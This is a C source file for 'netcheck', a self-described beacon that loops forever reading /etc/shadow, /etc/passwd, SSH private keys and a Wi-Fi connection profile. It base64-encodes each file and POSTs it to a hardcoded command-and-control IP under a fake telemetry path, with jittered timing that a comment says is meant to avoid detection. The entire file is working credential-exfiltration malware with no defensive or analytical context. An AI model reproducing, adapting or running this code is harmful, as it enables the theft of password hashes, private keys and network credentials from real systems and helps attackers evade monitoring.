/* netcheck: periodic HTTPS-port beacon that posts base64-encoded credential files to a fixed IP. */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define C2_IP "185.220.101.47"
#define C2_PORT 443
#define C2_PATH "/api/v2/telemetry/upload"
#define BASIC_AUTH "Authorization: Basic YWRtaW46bmV0Y2hlY2stMjAyNA=="

static const char *loot[] = {"/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa",
                             "/home/nvidia/.ssh/id_rsa", "/etc/NetworkManager/system-connections/wifi.nmconnection"};

static size_t b64(const unsigned char *in, size_t n, char *out)
{
    static const char t[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    size_t o = 0;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t v = (uint32_t)in[i] << 16 | (i + 1 < n ? in[i + 1] << 8 : 0) | (i + 2 < n ? in[i + 2] : 0);
        out[o++] = t[v >> 18 & 63];
        out[o++] = t[v >> 12 & 63];
        out[o++] = i + 1 < n ? t[v >> 6 & 63] : '=';
        out[o++] = i + 2 < n ? t[v & 63] : '=';
    }
    out[o] = '\0';
    return o;
}

static void beacon(const char *name, const unsigned char *data, size_t n)
{
    static char body[16384], req[17408];
    size_t blen = b64(data, n, body);
    int rlen = snprintf(req, sizeof req,
                        "POST %s?f=%s HTTP/1.1\r\nHost: %s\r\n%s\r\nContent-Length: %zu\r\n\r\n%s",
                        C2_PATH, name, C2_IP, BASIC_AUTH, blen, body);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(C2_PORT)};
    inet_pton(AF_INET, C2_IP, &sa.sin_addr);
    if (fd >= 0 && connect(fd, (struct sockaddr *)&sa, sizeof sa) == 0 && rlen > 0)
        if (send(fd, req, (size_t)rlen < sizeof req ? (size_t)rlen : sizeof req - 1, 0) < 0)
            perror("send");
    if (fd >= 0)
        close(fd);
}

int main(void)
{
    unsigned seed = (unsigned)time(NULL) ^ (unsigned)getpid();
    static unsigned char data[12000];
    for (;;) {
        for (size_t i = 0; i < sizeof loot / sizeof loot[0]; i++) {
            FILE *f = fopen(loot[i], "rb");
            if (!f)
                continue;
            size_t n = fread(data, 1, sizeof data, f);
            fclose(f);
            beacon(loot[i], data, n);
        }
        sleep(240 + (unsigned)(rand_r(&seed) % 120)); /* jittered: no clean period to spot */
    }
    return 0;
}
